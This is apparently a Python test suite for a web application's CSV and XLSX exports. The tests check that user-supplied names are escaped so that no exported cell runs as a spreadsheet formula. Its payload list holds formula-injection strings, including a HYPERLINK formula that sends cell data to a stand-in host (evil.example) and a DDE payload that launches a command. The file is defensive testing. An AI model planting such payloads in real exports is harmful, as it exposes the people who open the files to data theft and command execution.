"""Formula injection: whatever registrants, enterprises or staff type, no exported cell is a formula."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from clusterhub.core.exports import csv_bytes, restore_cell, safe_cell, xlsx_bytes
from clusterhub.events.services.registration import register
from clusterhub.extensions import db
from clusterhub.reporting import services as reporting
from clusterhub.tenancy.scoping import tenant_scope

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells_of_csv(body: bytes, delimiter=",") -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _assert_no_formula_in_xlsx(body: bytes):
    workbook = load_workbook(io.BytesIO(body))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                assert not (
                    isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                )


def _assert_no_formula_in_csv(body: bytes, delimiter=","):
    for cell in _cells_of_csv(body, delimiter):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text_and_read_back_unchanged(payload):
    assert safe_cell(payload) == "'" + payload
    assert restore_cell(safe_cell(payload)) == payload
    assert safe_cell(-5) == -5 and safe_cell("ООО «Ромашка»") == "ООО «Ромашка»"
    _assert_no_formula_in_csv(csv_bytes(["name"], [[payload]]))
    _assert_no_formula_in_xlsx(xlsx_bytes(["name"], [[payload]]))


def test_participant_exports_neutralise_what_registrants_typed(client, login, make_user, make_event, person):
    event = make_event()
    event_id = event.id
    with tenant_scope(db.session, event.tenant_id):
        for n, payload in enumerate(PAYLOADS):
            register(event, person(full_name=payload, organisation=PAYLOADS[-1 - n]), guest=False)
        db.session.commit()
    login(make_user("center_admin"))
    csv_body = client.get(f"/komi/staff/events/{event_id}/participants.csv").data
    _assert_no_formula_in_csv(csv_body)
    assert "'=cmd|' /C calc'!A0" in _cells_of_csv(csv_body)
    xlsx = client.get(f"/komi/staff/events/{event_id}/participants.xlsx")
    assert xlsx.status_code == 200
    _assert_no_formula_in_xlsx(xlsx.data)


def test_cluster_member_exports_never_write_an_enterprise_name_as_a_formula(
    client, login, make_user, make_cluster, make_enterprise
):
    from clusterhub.clusters.services.imports import read_members_file
    from clusterhub.clusters.services.members import add_member_by_inn

    cluster = make_cluster()
    tenant_id = cluster.test_tenant_id
    with tenant_scope(db.session, tenant_id):
        cluster_id = cluster.id
        for payload in PAYLOADS[:3]:
            enterprise = make_enterprise(name=payload)
            add_member_by_inn(cluster, enterprise.inn, None, "participant", None, None)
        db.session.commit()
    login(make_user("center_admin"))
    csv_response = client.get(f"/komi/clusters/{cluster_id}/members.csv")
    assert csv_response.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
    csv_body = csv_response.data
    _assert_no_formula_in_csv(csv_body, delimiter=";")
    xlsx = client.get(f"/komi/clusters/{cluster_id}/members.xlsx")
    _assert_no_formula_in_xlsx(xlsx.data)
    # and the file can be imported again as it is: the names come back without the apostrophe
    with tenant_scope(db.session, tenant_id):
        rows = read_members_file("members.xlsx", xlsx.data)
    assert {row["name"] for row in rows} == set(PAYLOADS[:3])


def test_technopark_catalogue_exports_neutralise_service_names(
    client, login, make_user, make_tenant, make_technopark, make_service
):
    park = make_technopark(make_tenant("komi"))
    make_service(park, name_ru=PAYLOADS[0], description_ru=PAYLOADS[1])
    login(make_user("center_admin"))
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/komi/staff/technoparks/{park.id}/export/services.{fmt}")
        assert response.status_code == 200
        if fmt == "csv":
            assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
            _assert_no_formula_in_csv(response.data)
        else:
            _assert_no_formula_in_xlsx(response.data)


def test_federal_exports_neutralise_every_cell():
    table = reporting.Table("regions", "Regions", ["Center", "Value"], [[PAYLOADS[1], 3], ["=1+1", 2]])
    _assert_no_formula_in_csv(reporting.to_csv(table.header, table.rows), delimiter=";")
    _assert_no_formula_in_xlsx(reporting.to_xlsx([table]))


def test_no_export_bypasses_the_shared_helper():
    """A new CSV or XLSX writer elsewhere in the package must go through core/exports.py."""
    package = Path(reporting.__file__).resolve().parents[1]
    writers = []
    for source in package.rglob("*.py"):
        if source.name == "exports.py" and source.parent.name == "core":
            continue
        text = source.read_text(encoding="utf-8")
        for marker in ("csv.writer(", "csv.DictWriter(", "Workbook(", ".append_row(", "tablib"):
            if marker in text:
                writers.append((source.relative_to(package).as_posix(), marker))
    assert writers == []
